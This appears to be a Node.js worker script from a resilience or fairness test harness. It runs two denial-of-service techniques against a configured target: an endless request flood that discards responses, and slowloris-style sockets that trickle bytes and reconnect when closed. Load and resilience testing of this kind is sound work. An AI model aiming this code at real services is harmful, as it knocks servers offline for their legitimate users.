import { connect } from 'node:net';
import { workerData } from 'node:worker_threads';

// Runs the attack given by `workerData` until the thread is ended. In its own thread, so that its work does not count
// as the neighbor's waiting.
const { kind } = workerData;
if (kind === 'repeated') for (let count = 0; count < workerData.callers; count += 1) void callAgain(workerData);
else for (let count = 0; count < workerData.sockets; count += 1) hold(workerData);

/** Repeats a request and drops the answers. */
async function callAgain({ url, method, headers, body }) {
  for (;;) {
    const answer = await fetch(url, { method, headers, body }).catch(() => null);
    await answer?.arrayBuffer().catch(() => undefined);
  }
}

/**
 * Holds a connection that sends a head, then single bytes at intervals, and never reads; reopens it after it was
 * closed.
 */
function hold({ host, port, head, trickleMs, reopenMs }) {
  const socket = connect(port, host);
  socket.on('error', () => undefined);
  socket.write(head);
  const timer = trickleMs === null ? undefined : setInterval(() => socket.write('x'), trickleMs);
  socket.once('close', () => {
    clearInterval(timer);
    setTimeout(() => hold(workerData), reopenMs);
  });
}
